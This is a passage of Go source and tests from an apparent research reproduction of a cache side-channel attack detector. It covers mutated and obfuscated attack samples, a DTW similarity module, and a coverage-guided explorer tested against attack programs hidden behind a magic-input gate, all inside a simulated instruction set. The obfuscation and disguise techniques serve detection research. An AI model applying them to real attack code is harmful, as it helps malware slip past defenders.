	"repro/internal/mutate"
)

// Sample is one labeled program of the corpus.
type Sample struct {
	Name    string
	Label   attacks.Family
	Source  string // canonical PoC or benign template the sample derives from
	Program *isa.Program
	Victim  *isa.Program // nil for benign and Spectre samples
}

// Config controls corpus generation.
type Config struct {
	// PerClass is the number of samples per class (the paper uses 400;
	// tests and quick runs use less).
	PerClass int
	// Seed drives every random choice.
	Seed int64
	// Obfuscate applies the polymorphic obfuscation pass instead of the
	// light mutation (the E4 corpus).
	Obfuscate bool
}

// DefaultConfig matches the paper's scale.
func DefaultConfig() Config { return Config{PerClass: 400, Seed: 1} }

// varyParams draws diversified but working attack parameters.
func varyParams(rng *rand.Rand) attacks.Params {
	p := attacks.DefaultParams()
	p.Rounds = 3 + rng.Intn(3)
	p.Lines = 8 + rng.Intn(8)
	p.Wait = 16 + rng.Intn(24)
	p.Secret = rng.Intn(p.Lines)
	return p
}

// AttackSamples generates n labeled samples of one family by cycling
// through the family's canonical PoCs, varying parameters and mutating
// the result.
func AttackSamples(family attacks.Family, n int, seed int64, obfuscate bool) ([]Sample, error) {
	base := attacks.OfFamily(family, attacks.DefaultParams())
	if len(base) == 0 {
		return nil, fmt.Errorf("dataset: unknown family %q", family)
	}
	rng := rand.New(rand.NewSource(seed))
	out := make([]Sample, 0, n)
	for i := 0; i < n; i++ {
		ctorIdx := i % len(base)
		params := varyParams(rng)
		poc, err := attacks.ByName(base[ctorIdx].Name, params)
		if err != nil {
			return nil, err
		}
		mcfg := mutate.LightConfig(rng.Int63())
		if obfuscate {
			mcfg = mutate.ObfuscationConfig(rng.Int63())
		}
		prog, err := mutate.Mutate(poc.Program, mcfg)
		if err != nil {
			return nil, fmt.Errorf("dataset: %s sample %d: %w", family, i, err)
		}
		prog.Name = fmt.Sprintf("%s-v%03d", poc.Name, i)
		out = append(out, Sample{
			Name:    prog.Name,
			Label:   family,
			Source:  poc.Name,
			Program: prog,
			Victim:  poc.Victim,
		})
	}
	return out, nil
}

// benignMix returns how many samples of each Table III type make up a
// benign set of size n, preserving the paper's 12/280/100/8 proportions.
func benignMix(n int) map[benign.Kind]int {
	mix := map[benign.Kind]int{
		benign.KindSpec:     n * 12 / 400,
		benign.KindLeetcode: n * 280 / 400,
		benign.KindCrypto:   n * 100 / 400,
		benign.KindServer:   n * 8 / 400,
	}
	// Distribute rounding leftovers to the largest class.
	total := 0
	for _, v := range mix {
		total += v
	}
	mix[benign.KindLeetcode] += n - total
	// Guarantee at least one of each kind when n allows it.
	if n >= len(mix) {
		for _, k := range benign.Kinds() {
			if mix[k] == 0 {
				mix[k]++
				mix[benign.KindLeetcode]--
			}
		}
	}
	return mix
}

// BenignSamples generates n labeled benign samples in Table III
// proportions.
func BenignSamples(n int, seed int64) ([]Sample, error) {
	rng := rand.New(rand.NewSource(seed))
	mix := benignMix(n)
	out := make([]Sample, 0, n)
	for _, kind := range benign.Kinds() {
		ts := benign.Templates(kind)
		for i := 0; i < mix[kind]; i++ {
			tmpl := ts[rng.Intn(len(ts))]
			spec := benign.Spec{Kind: kind, Template: tmpl, Seed: rng.Int63()}
			p, err := benign.Generate(spec)
			if err != nil {
				return nil, err
			}
			out = append(out, Sample{
				Name:    p.Name,
				Label:   attacks.FamilyBenign,
				Source:  string(kind) + "/" + tmpl,
				Program: p,
			})
		}
	}
	return out, nil
}

// Dataset is a full labeled corpus.
type Dataset struct {
	Samples []Sample
}

// Standard builds the full five-class corpus (four attack families plus
// benign), PerClass samples each.
func Standard(cfg Config) (*Dataset, error) {
	if cfg.PerClass <= 0 {
		cfg.PerClass = DefaultConfig().PerClass
	}
	d := &Dataset{}
	for i, fam := range attacks.Families() {
		s, err := AttackSamples(fam, cfg.PerClass, cfg.Seed+int64(i)*1000, cfg.Obfuscate)
		if err != nil {
			return nil, err
		}
		d.Samples = append(d.Samples, s...)
	}
	b, err := BenignSamples(cfg.PerClass, cfg.Seed+9999)
	if err != nil {
		return nil, err
	}
	d.Samples = append(d.Samples, b...)
	return d, nil
}

// ByLabel returns the samples of one class.
func (d *Dataset) ByLabel(label attacks.Family) []Sample {
	var out []Sample
	for _, s := range d.Samples {
		if s.Label == label {
			out = append(out, s)
		}
	}
	return out
}

// Labels returns the distinct labels present, in first-seen order.
func (d *Dataset) Labels() []attacks.Family {
	seen := make(map[attacks.Family]bool)
	var out []attacks.Family
	for _, s := range d.Samples {
		if !seen[s.Label] {
			seen[s.Label] = true
			out = append(out, s.Label)
		}
	}
	return out
}

// Len returns the corpus size.
func (d *Dataset) Len() int { return len(d.Samples) }

// Stats summarizes per-class counts (the Table II/III "#M" columns).
func (d *Dataset) Stats() map[attacks.Family]int {
	out := make(map[attacks.Family]int)
	for _, s := range d.Samples {
		out[s.Label]++
	}
	return out
}
