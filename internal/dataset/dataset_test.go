package dataset

import (
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/exec"
)

func TestAttackSamples(t *testing.T) {
	samples, err := AttackSamples(attacks.FamilyFR, 12, 1, false)
	if err != nil {
		t.Fatal(err)
	}
	if len(samples) != 12 {
		t.Fatalf("samples = %d", len(samples))
	}
	sources := make(map[string]bool)
	names := make(map[string]bool)
	for _, s := range samples {
		if s.Label != attacks.FamilyFR {
			t.Errorf("label = %s", s.Label)
		}
		if err := s.Program.Validate(); err != nil {
			t.Errorf("%s: %v", s.Name, err)
		}
		if s.Victim == nil {
			t.Errorf("%s: FR family needs a victim", s.Name)
		}
		if names[s.Name] {
			t.Errorf("duplicate name %s", s.Name)
		}
		names[s.Name] = true
		sources[s.Source] = true
	}
	// All five FR-family PoCs must appear as sources when n >= 5.
	if len(sources) != 5 {
		t.Errorf("sources = %v, want all 5 FR PoCs", sources)
	}
}

func TestAttackSamplesUnknownFamily(t *testing.T) {
	if _, err := AttackSamples("nope", 3, 1, false); err == nil {
		t.Error("unknown family must fail")
	}
}

func TestSpectreSamplesAreSelfContained(t *testing.T) {
	samples, err := AttackSamples(attacks.FamilySFR, 6, 2, false)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range samples {
		if s.Victim != nil {
			t.Errorf("%s: spectre sample must not need a victim", s.Name)
		}
	}
}

func TestBenignSamplesMix(t *testing.T) {
	samples, err := BenignSamples(40, 3)
	if err != nil {
		t.Fatal(err)
	}
	if len(samples) != 40 {
		t.Fatalf("samples = %d", len(samples))
	}
	kinds := make(map[string]int)
	for _, s := range samples {
		if s.Label != attacks.FamilyBenign {
			t.Errorf("label = %s", s.Label)
		}
		kinds[s.Source[:4]]++
	}
	// The leetcode share dominates per Table III proportions.
	leet := 0
	for src, n := range kinds {
		if src == "leet" {
			leet = n
		}
	}
	if leet < 20 {
		t.Errorf("leetcode share = %d of 40, want the majority", leet)
	}
}

func TestBenignMixCoversAllKinds(t *testing.T) {
	mix := benignMix(40)
	total := 0
	for _, k := range benign.Kinds() {
		if mix[k] == 0 {
			t.Errorf("kind %s missing from mix", k)
		}
		total += mix[k]
	}
	if total != 40 {
		t.Errorf("mix total = %d", total)
	}
}

func TestStandardDataset(t *testing.T) {
	d, err := Standard(Config{PerClass: 5, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if d.Len() != 25 {
		t.Fatalf("len = %d, want 25", d.Len())
	}
	stats := d.Stats()
	for _, fam := range append(attacks.Families(), attacks.FamilyBenign) {
		if stats[fam] != 5 {
			t.Errorf("%s count = %d", fam, stats[fam])
		}
	}
	if got := len(d.Labels()); got != 5 {
		t.Errorf("labels = %d", got)
	}
	if got := len(d.ByLabel(attacks.FamilyPP)); got != 5 {
		t.Errorf("ByLabel(PP) = %d", got)
	}
}

func TestDatasetDeterminism(t *testing.T) {
	a, err := Standard(Config{PerClass: 3, Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Standard(Config{PerClass: 3, Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	if a.Len() != b.Len() {
		t.Fatal("nondeterministic size")
	}
	for i := range a.Samples {
		if a.Samples[i].Name != b.Samples[i].Name ||
			len(a.Samples[i].Program.Insns) != len(b.Samples[i].Program.Insns) {
			t.Fatalf("sample %d differs", i)
		}
	}
}

// A random mutated sample of each family must still execute and halt (or
// run its victim loop without crashing).
func TestSamplesExecute(t *testing.T) {
	d, err := Standard(Config{PerClass: 2, Seed: 4})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range d.Samples {
		cfg := exec.DefaultConfig()
		cfg.MaxRetired = 300_000
		m, err := exec.NewMachine(cfg, s.Program, s.Victim)
		if err != nil {
			t.Fatalf("%s: %v", s.Name, err)
		}
		tr := m.Run()
		if !tr.Halted {
			t.Errorf("%s: did not halt", s.Name)
		}
	}
}

func TestObfuscatedDataset(t *testing.T) {
	plain, err := AttackSamples(attacks.FamilyPP, 3, 5, false)
	if err != nil {
		t.Fatal(err)
	}
	obf, err := AttackSamples(attacks.FamilyPP, 3, 5, true)
	if err != nil {
		t.Fatal(err)
	}
	grew := 0
	for i := range plain {
		if len(obf[i].Program.Insns) > len(plain[i].Program.Insns) {
			grew++
		}
	}
	if grew == 0 {
		t.Error("obfuscated samples are not larger than light mutants")
	}
}
