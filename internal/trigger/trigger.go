// Package trigger implements the future work the paper's Limitation
// paragraph sketches (Section V): attack programs "under disguise" only
// run their malicious behavior for specific inputs, so dynamic modeling
// on a default input misses them. The paper proposes adapting
// coverage-driven testcase generation to trigger the hidden behavior;
// this package provides exactly that — a greedy coverage-guided input
// explorer in the style of AFL's havoc stage — plus a builder for
// disguised PoCs to evaluate it against.
//
// The input channel is one 64-bit word at InputAddr, planted into
// memory before execution (the simulated equivalent of argv). The
// explorer mutates inputs, keeps those that reach new basic blocks, and
// returns the input with the largest cumulative coverage; modeling on
// that input exposes the gated attack phases.
package trigger

import (
	"fmt"
	"math/rand"
	"sort"

	"repro/internal/exec"
	"repro/internal/isa"
)

// InputAddr is where a program's 64-bit input word lives.
const InputAddr uint64 = 0x0f00_0000

// Explorer searches the input space for coverage.
type Explorer struct {
	// Budget is the number of executions the search may spend.
	Budget int
	// DetBytes is how many low bytes the deterministic value stage
	// sweeps (256 runs each).
	DetBytes int
	// Seed drives mutation choices.
	Seed int64
	// ExecConfig configures each run.
	ExecConfig exec.Config
}

// NewExplorer returns an explorer with sensible defaults: enough budget
// for the deterministic stage over two magic bytes plus a havoc tail.
func NewExplorer() *Explorer {
	cfg := exec.DefaultConfig()
	cfg.MaxRetired = 200_000
	return &Explorer{Budget: 640, DetBytes: 2, Seed: 1, ExecConfig: cfg}
}

// Result is the outcome of an exploration.
type Result struct {
	// BestInput reached the largest coverage.
	BestInput uint64
	// BestTrace is the trace of the best input's run.
	BestTrace *exec.Trace
	// Covered is the cumulative set of executed instruction addresses.
	Covered map[uint64]bool
	// Runs is the number of executions spent.
	Runs int
	// Corpus holds every input that contributed new coverage, in
	// discovery order.
	Corpus []uint64
}

// run executes prog with one input and returns its trace.
func (e *Explorer) run(prog, victim *isa.Program, input uint64) (*exec.Trace, error) {
	m, err := exec.NewMachine(e.ExecConfig, prog, victim)
	if err != nil {
		return nil, err
	}
	m.Memory().Store64(InputAddr, input)
	return m.Run(), nil
}

func coverage(tr *exec.Trace) map[uint64]bool {
	out := make(map[uint64]bool, len(tr.ByAddr))
	for addr, rec := range tr.ByAddr {
		if rec.ExecCount > 0 {
			out[addr] = true
		}
	}
	return out
}

// Explore searches for the input maximizing block coverage. It runs an
// AFL-style pipeline: seed inputs, a deterministic byte-value stage over
// the low DetBytes bytes (each value of each byte tried on the current
// best input — this is what walks byte-by-byte trigger comparisons), and
// a havoc stage of random mutations over the coverage-increasing corpus.
func (e *Explorer) Explore(prog, victim *isa.Program) (*Result, error) {
	if prog == nil {
		return nil, fmt.Errorf("trigger: nil program")
	}
	if e.Budget <= 0 {
		e.Budget = NewExplorer().Budget
	}
	if e.DetBytes <= 0 {
		e.DetBytes = 2
	}
	rng := rand.New(rand.NewSource(e.Seed))
	res := &Result{Covered: make(map[uint64]bool)}
	bestCov := 0

	try := func(input uint64) (bool, error) {
		if res.Runs >= e.Budget {
			return false, nil
		}
		res.Runs++
		tr, err := e.run(prog, victim, input)
		if err != nil {
			return false, err
		}
		cov := coverage(tr)
		grew := false
		for a := range cov {
			if !res.Covered[a] {
				res.Covered[a] = true
				grew = true
			}
		}
		// Track the single best run for modeling.
		if res.BestTrace == nil || len(cov) > bestCov {
			res.BestInput, res.BestTrace, bestCov = input, tr, len(cov)
		}
		if grew {
			res.Corpus = append(res.Corpus, input)
		}
		return grew, nil
	}

	// Seed inputs: zero, all-ones, and a few sparse patterns.
	for _, s := range []uint64{0, ^uint64(0), 0x0101010101010101, 0x8000000000000000} {
		if _, err := try(s); err != nil {
			return nil, err
		}
	}

	// Deterministic byte-value stage on the running best input.
	for bytePos := 0; bytePos < e.DetBytes && res.Runs < e.Budget; bytePos++ {
		shift := uint(bytePos) * 8
		base := res.BestInput
		for v := 0; v < 256 && res.Runs < e.Budget; v++ {
			input := (base &^ (0xff << shift)) | uint64(v)<<shift
			if _, err := try(input); err != nil {
				return nil, err
			}
		}
	}

	// Havoc stage.
	for res.Runs < e.Budget {
		base := res.BestInput
		if len(res.Corpus) > 0 && rng.Intn(2) == 0 {
			base = res.Corpus[rng.Intn(len(res.Corpus))]
		}
		if _, err := try(mutateInput(base, rng)); err != nil {
			return nil, err
		}
	}
	return res, nil
}

// mutateInput applies one random havoc-style mutation.
func mutateInput(v uint64, rng *rand.Rand) uint64 {
	switch rng.Intn(5) {
	case 0: // single bit flip
		return v ^ (1 << uint(rng.Intn(64)))
	case 1: // replace one byte
		shift := uint(rng.Intn(8)) * 8
		return (v &^ (0xff << shift)) | uint64(rng.Intn(256))<<shift
	case 2: // small arithmetic nudge
		return v + uint64(rng.Intn(32)) - 16
	case 3: // interesting byte into a random slot
		interesting := []uint64{0x00, 0x01, 0x7f, 0x80, 0xff, 0xca, 0xfe, 0xde, 0xad}
		shift := uint(rng.Intn(8)) * 8
		return (v &^ (0xff << shift)) | interesting[rng.Intn(len(interesting))]<<shift
	default: // fresh random word
		return rng.Uint64()
	}
}

// CoverageOf reports the block coverage of a single input, for
// before/after comparisons in evaluations.
func (e *Explorer) CoverageOf(prog, victim *isa.Program, input uint64) (int, error) {
	tr, err := e.run(prog, victim, input)
	if err != nil {
		return 0, err
	}
	return len(coverage(tr)), nil
}

// SortedCovered returns the covered addresses in order (for tests).
func (r *Result) SortedCovered() []uint64 {
	out := make([]uint64, 0, len(r.Covered))
	for a := range r.Covered {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}
