package trigger

import (
	"fmt"
	"sort"

	"repro/internal/attacks"
	"repro/internal/isa"
)

// gateCodeBase places the disguise prologue below the attack's code.
const gateCodeBase uint64 = 0x3f_0000

// gateDataBase keeps the decoy's data away from everything else.
const gateDataBase uint64 = 0x0e00_0000

// Disguise wraps an attack PoC behind an input gate: the program reads
// the 64-bit input at InputAddr and compares it byte-by-byte against
// magic's low magicBytes bytes. Only a full match falls through into the
// original attack; any mismatch diverts into a benign decoy loop and
// halts. The byte-by-byte structure is what gives a coverage-guided
// explorer a gradient to climb — exactly the disguised-malware shape the
// paper's Limitation section describes.
func Disguise(poc attacks.PoC, magic uint64, magicBytes int) (attacks.PoC, error) {
	if poc.Program == nil {
		return attacks.PoC{}, fmt.Errorf("trigger: nil PoC program")
	}
	if magicBytes < 1 || magicBytes > 8 {
		return attacks.PoC{}, fmt.Errorf("trigger: magicBytes %d out of range [1,8]", magicBytes)
	}
	if gateCodeBase+0x10000 > poc.Program.MinAddr() {
		return attacks.PoC{}, fmt.Errorf("trigger: gate region overlaps attack code at %#x", poc.Program.MinAddr())
	}

	b := isa.NewBuilder(poc.Name+"-disguised", gateCodeBase)
	b.SetDataBase(gateDataBase)
	decoyBuf := b.Bytes("decoy", 256, false)

	// Gate: one compare block per magic byte.
	b.Mov(isa.R(isa.R0), isa.Mem(isa.RegNone, int64(InputAddr)))
	for i := 0; i < magicBytes; i++ {
		want := int64((magic >> (uint(i) * 8)) & 0xff)
		b.Mov(isa.R(isa.R1), isa.R(isa.R0)).
			Shr(isa.R(isa.R1), isa.Imm(int64(i*8))).
			And(isa.R(isa.R1), isa.Imm(0xff)).
			Cmp(isa.R(isa.R1), isa.Imm(want)).
			Jne("decoy")
	}
	// Full match: hand over to the hidden attack. The branch target is
	// patched after merging since the label lives in the other program.
	b.Label("unlock").
		Jmp("unlock_patch")
	b.Label("unlock_patch") // placeholder fallthrough, patched below

	// Decoy: an innocuous checksum loop.
	b.Label("decoy").
		Mov(isa.R(isa.R2), isa.Imm(0)).
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("dloop").
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(decoyBuf))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Add(isa.R(isa.R3), isa.R(isa.R5)).
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(24)).
		Jl("dloop").
		Hlt()

	gate, err := b.Build()
	if err != nil {
		return attacks.PoC{}, err
	}
	// Patch the unlock jump to the attack's entry.
	patched := 0
	for i := range gate.Insns {
		in := &gate.Insns[i]
		if t, ok := in.BranchTarget(); ok && t == gate.Labels["unlock_patch"] && in.Addr == gate.Labels["unlock"] {
			in.Dst = isa.Imm(int64(poc.Program.Entry))
			patched++
		}
	}
	if patched != 1 {
		return attacks.PoC{}, fmt.Errorf("trigger: unlock patch applied %d times, want 1", patched)
	}

	merged := &isa.Program{
		Name:   gate.Name,
		Entry:  gate.Entry,
		Insns:  append(append([]isa.Instruction{}, gate.Insns...), poc.Program.Insns...),
		Labels: map[string]uint64{},
	}
	for k, v := range gate.Labels {
		merged.Labels["gate_"+k] = v
	}
	for k, v := range poc.Program.Labels {
		merged.Labels[k] = v
	}
	merged.Data = append(append([]isa.DataSegment{}, gate.Data...), poc.Program.Data...)
	sort.Slice(merged.Insns, func(i, j int) bool { return merged.Insns[i].Addr < merged.Insns[j].Addr })
	if err := merged.Validate(); err != nil {
		return attacks.PoC{}, fmt.Errorf("trigger: merged program invalid: %w", err)
	}
	return attacks.PoC{
		Name:    merged.Name,
		Family:  poc.Family,
		Program: merged,
		Victim:  poc.Victim,
	}, nil
}
