package trigger

import (
	"testing"

	"repro/internal/attacks"
	"repro/internal/cache"
	"repro/internal/detect"
	"repro/internal/model"
)

const testMagic = 0xCAFE

func disguisedFR(t *testing.T) attacks.PoC {
	t.Helper()
	poc, err := Disguise(attacks.FlushReloadIAIK(attacks.DefaultParams()), testMagic, 2)
	if err != nil {
		t.Fatal(err)
	}
	return poc
}

func TestDisguiseValidates(t *testing.T) {
	poc := disguisedFR(t)
	if err := poc.Program.Validate(); err != nil {
		t.Fatal(err)
	}
	if poc.Family != attacks.FamilyFR {
		t.Errorf("family = %s", poc.Family)
	}
	// The gate must precede the original code.
	if poc.Program.Entry >= attacks.AttackerCodeBase {
		t.Errorf("entry %#x not in the gate region", poc.Program.Entry)
	}
}

func TestDisguiseErrors(t *testing.T) {
	if _, err := Disguise(attacks.PoC{}, 1, 1); err == nil {
		t.Error("nil program must fail")
	}
	if _, err := Disguise(attacks.FlushReloadIAIK(attacks.DefaultParams()), 1, 0); err == nil {
		t.Error("zero magic bytes must fail")
	}
	if _, err := Disguise(attacks.FlushReloadIAIK(attacks.DefaultParams()), 1, 9); err == nil {
		t.Error("nine magic bytes must fail")
	}
}

// Without the trigger input the disguised program runs only the decoy:
// its behavior model is benign.
func TestDisguisedAttackHidesByDefault(t *testing.T) {
	poc := disguisedFR(t)
	e := NewExplorer()

	covWrong, err := e.CoverageOf(poc.Program, poc.Victim, 0)
	if err != nil {
		t.Fatal(err)
	}
	covRight, err := e.CoverageOf(poc.Program, poc.Victim, testMagic)
	if err != nil {
		t.Fatal(err)
	}
	if covRight <= covWrong {
		t.Fatalf("trigger input must unlock more coverage: %d vs %d", covRight, covWrong)
	}

	// Model on the default input: benign verdict.
	tr, err := e.run(poc.Program, poc.Victim, 0)
	if err != nil {
		t.Fatal(err)
	}
	m, err := model.BuildFromTrace(poc.Program, tr, cache.DefaultHierarchyConfig().LLC, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	d := detectorForTest(t)
	if res := d.ClassifyBBS(m.BBS); res.Predicted != attacks.FamilyBenign {
		t.Errorf("disguised attack with wrong input classified %s", res.Predicted)
	}
}

// The headline test for the future-work extension: coverage-guided
// exploration finds the trigger and the model built on the best input is
// classified as the hidden attack's family.
func TestExplorerUnmasksDisguisedAttack(t *testing.T) {
	poc := disguisedFR(t)
	e := NewExplorer()
	res, err := e.Explore(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.BestInput&0xFFFF != testMagic {
		t.Fatalf("explorer missed the trigger: best input %#x after %d runs", res.BestInput, res.Runs)
	}
	if len(res.Corpus) < 2 {
		t.Errorf("corpus should record the byte-by-byte progress: %v", res.Corpus)
	}

	m, err := model.BuildFromTrace(poc.Program, res.BestTrace, cache.DefaultHierarchyConfig().LLC, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	d := detectorForTest(t)
	verdict := d.ClassifyBBS(m.BBS)
	if verdict.Predicted != attacks.FamilyFR {
		t.Errorf("unmasked attack classified %s (best %s %.2f)",
			verdict.Predicted, verdict.Best.Name, verdict.Best.Score)
	}
}

func TestExplorerBudgetRespected(t *testing.T) {
	poc := disguisedFR(t)
	e := NewExplorer()
	e.Budget = 10
	e.DetBytes = 1
	res, err := e.Explore(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Runs > 10 {
		t.Errorf("runs = %d, budget 10", res.Runs)
	}
	if res.BestTrace == nil {
		t.Error("best trace must always be set")
	}
	if len(res.SortedCovered()) == 0 {
		t.Error("coverage must not be empty")
	}
}

func TestExplorerNilProgram(t *testing.T) {
	if _, err := NewExplorer().Explore(nil, nil); err == nil {
		t.Error("nil program must fail")
	}
}

func TestExplorerDeterministic(t *testing.T) {
	poc := disguisedFR(t)
	run := func() uint64 {
		e := NewExplorer()
		e.Budget = 40
		res, err := e.Explore(poc.Program, poc.Victim)
		if err != nil {
			t.Fatal(err)
		}
		return res.BestInput
	}
	if run() != run() {
		t.Error("exploration must be deterministic under a fixed seed")
	}
}

var cachedDetector *detect.Detector

func detectorForTest(t *testing.T) *detect.Detector {
	t.Helper()
	if cachedDetector != nil {
		return cachedDetector
	}
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(attacks.DefaultParams()),
		attacks.PrimeProbeIAIK(attacks.DefaultParams()),
	}
	repo, err := detect.BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	cachedDetector = detect.NewDetector(repo)
	return cachedDetector
}
