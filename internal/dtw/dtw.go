// Package dtw implements the Dynamic Time Warping algorithm (Berndt &
// Clifford) that SCAGuard adapts for CST-BBS similarity comparison
// (Section III-B2 of the paper). It is generic over the element type via
// a caller-provided point distance function and supports an optional
// Sakoe-Chiba band to bound warping.
//
// Three evaluation strategies are offered, all computing the same
// banded sum-of-costs optimum:
//
//   - Path keeps the full O(n*m) cost matrix and returns one optimal
//     warping path — used when the alignment itself is the product
//     (explanations, `scaguard compare -explain`).
//   - DistanceWithPathLen runs in O(m) memory and additionally returns
//     the length of exactly the path Path's backtracking would choose,
//     which is what the normalized CST-BBS distance divides by.
//   - DistanceAbandon adds early abandoning for repository scans: given
//     an upper bound on the acceptable total cost, it stops as soon as
//     every reachable cell of a row exceeds the bound, i.e. as soon as
//     it holds a proof that the final sum must exceed the bound.
//
// The early-abandon contract requires the point distance to be
// non-negative; every row of the matrix is crossed by every admissible
// warping path, so a row whose cheapest prefix already exceeds the
// cutoff can only be completed at a higher cost.
package dtw

import "math"

// DistFunc measures the distance between element i of the first sequence
// and element j of the second.
type DistFunc func(i, j int) float64

// Options tunes the alignment.
type Options struct {
	// Window is the Sakoe-Chiba band half-width; 0 disables the band
	// (full alignment). The band is widened automatically to at least
	// |n-m| so an alignment always exists.
	Window int
}

// Distance computes the DTW distance between sequences of lengths n and
// m under the point distance d, using the classic sum-of-costs
// formulation with unit steps (match, insert, delete). Two empty
// sequences have distance 0; an empty vs non-empty alignment has
// distance +Inf (no admissible warping path).
func Distance(n, m int, d DistFunc, opts Options) float64 {
	switch {
	case n == 0 && m == 0:
		return 0
	case n == 0 || m == 0:
		return math.Inf(1)
	}
	w := opts.Window
	if w > 0 {
		diff := n - m
		if diff < 0 {
			diff = -diff
		}
		if w < diff {
			w = diff
		}
	}
	inf := math.Inf(1)
	prev := make([]float64, m+1)
	cur := make([]float64, m+1)
	for j := range prev {
		prev[j] = inf
	}
	prev[0] = 0
	for i := 1; i <= n; i++ {
		for j := range cur {
			cur[j] = inf
		}
		lo, hi := 1, m
		if w > 0 {
			lo = i - w
			if lo < 1 {
				lo = 1
			}
			hi = i + w
			if hi > m {
				hi = m
			}
		}
		for j := lo; j <= hi; j++ {
			cost := d(i-1, j-1)
			best := prev[j-1] // match
			if prev[j] < best {
				best = prev[j] // insertion
			}
			if cur[j-1] < best {
				best = cur[j-1] // deletion
			}
			cur[j] = cost + best
		}
		prev, cur = cur, prev
	}
	return prev[m]
}

// DistanceWithPathLen computes the DTW distance like Distance and
// additionally returns the length of the optimal warping path that
// Path's backtracking would reconstruct (same tie-breaking: diagonal
// first, then insertion, then deletion), without materializing the
// O(n*m) cost matrix. The pair (sum, pathLen) therefore exactly matches
// Path's (sum, len(path)); callers that only need the normalized
// distance sum/pathLen can use this O(m)-memory form.
//
// Two empty sequences yield (0, 0); an empty vs non-empty alignment
// yields (+Inf, 0).
func DistanceWithPathLen(n, m int, d DistFunc, opts Options) (float64, int) {
	sum, pathLen, _ := distanceAbandon(n, m, d, opts, math.Inf(1))
	return sum, pathLen
}

// DistanceAbandon is DistanceWithPathLen with early abandoning: it
// stops — returning abandoned=true — as soon as the cheapest reachable
// cell of a row exceeds cutoff, which proves that the final sum-of-costs
// must exceed cutoff. The point distance must be non-negative for the
// proof to hold (all CST distances are).
//
// When abandoned, the returned sum is the cheapest cost of the row that
// triggered the abandon — a lower bound on the true DTW sum, strictly
// greater than cutoff — and pathLen is 0. When the alignment completes,
// the exact (sum, pathLen) pair is returned exactly as from
// DistanceWithPathLen; a cutoff of +Inf never abandons.
func DistanceAbandon(n, m int, d DistFunc, opts Options, cutoff float64) (sum float64, pathLen int, abandoned bool) {
	return distanceAbandon(n, m, d, opts, cutoff)
}

func distanceAbandon(n, m int, d DistFunc, opts Options, cutoff float64) (float64, int, bool) {
	return DistanceAbandonScratch(n, m, d, opts, cutoff, &Scratch{})
}

// Path additionally returns one optimal warping path as (i,j) index
// pairs, using a full cost matrix (O(n*m) memory).
func Path(n, m int, d DistFunc, opts Options) (float64, [][2]int) {
	switch {
	case n == 0 && m == 0:
		return 0, nil
	case n == 0 || m == 0:
		return math.Inf(1), nil
	}
	w := opts.Window
	if w > 0 {
		diff := n - m
		if diff < 0 {
			diff = -diff
		}
		if w < diff {
			w = diff
		}
	}
	inf := math.Inf(1)
	// (n+1) x (m+1) cost matrix.
	cost := make([][]float64, n+1)
	for i := range cost {
		cost[i] = make([]float64, m+1)
		for j := range cost[i] {
			cost[i][j] = inf
		}
	}
	cost[0][0] = 0
	for i := 1; i <= n; i++ {
		lo, hi := 1, m
		if w > 0 {
			lo = i - w
			if lo < 1 {
				lo = 1
			}
			hi = i + w
			if hi > m {
				hi = m
			}
		}
		for j := lo; j <= hi; j++ {
			c := d(i-1, j-1)
			best := cost[i-1][j-1]
			if cost[i-1][j] < best {
				best = cost[i-1][j]
			}
			if cost[i][j-1] < best {
				best = cost[i][j-1]
			}
			cost[i][j] = c + best
		}
	}
	// Backtrack.
	var path [][2]int
	i, j := n, m
	for i > 0 && j > 0 {
		path = append(path, [2]int{i - 1, j - 1})
		diag, up, left := cost[i-1][j-1], cost[i-1][j], cost[i][j-1]
		switch {
		case diag <= up && diag <= left:
			i, j = i-1, j-1
		case up <= left:
			i--
		default:
			j--
		}
	}
	// Reverse in place.
	for a, b := 0, len(path)-1; a < b; a, b = a+1, b-1 {
		path[a], path[b] = path[b], path[a]
	}
	return cost[n][m], path
}

// Similarity converts a DTW distance D in [0, +inf) to the paper's
// similarity score 1/(D+1) in (0, 1]; an infinite distance scores 0.
func Similarity(d float64) float64 {
	if math.IsInf(d, 1) {
		return 0
	}
	return 1 / (d + 1)
}
