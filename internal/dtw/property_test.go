package dtw

import (
	"math"
	"math/rand"
	"testing"
)

// randCase draws one random property-test instance: two float
// sequences plus the absolute-difference point distance (non-negative
// and symmetric, the shape every pipeline distance has).
type randCase struct {
	a, b []float64
	opts Options
}

func (c randCase) d(i, j int) float64 { return math.Abs(c.a[i] - c.b[j]) }

// dT is the transposed distance, for comparing D(a,b) with D(b,a).
func (c randCase) dT(i, j int) float64 { return math.Abs(c.b[i] - c.a[j]) }

func drawCase(rng *rand.Rand) randCase {
	seq := func(n int) []float64 {
		out := make([]float64, n)
		for i := range out {
			out[i] = rng.Float64() * 10
		}
		return out
	}
	windows := []int{0, 0, 1, 2, 5}
	return randCase{
		a:    seq(rng.Intn(13)),
		b:    seq(rng.Intn(13)),
		opts: Options{Window: windows[rng.Intn(len(windows))]},
	}
}

// Property: DistanceAbandon with an infinite cutoff never abandons and
// returns exactly Distance's sum (and DistanceWithPathLen's pair).
func TestPropertyAbandonInfCutoffEqualsDistance(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for iter := 0; iter < 2000; iter++ {
		c := drawCase(rng)
		n, m := len(c.a), len(c.b)
		want := Distance(n, m, c.d, c.opts)
		sum, pathLen, abandoned := DistanceAbandon(n, m, c.d, c.opts, math.Inf(1))
		if abandoned {
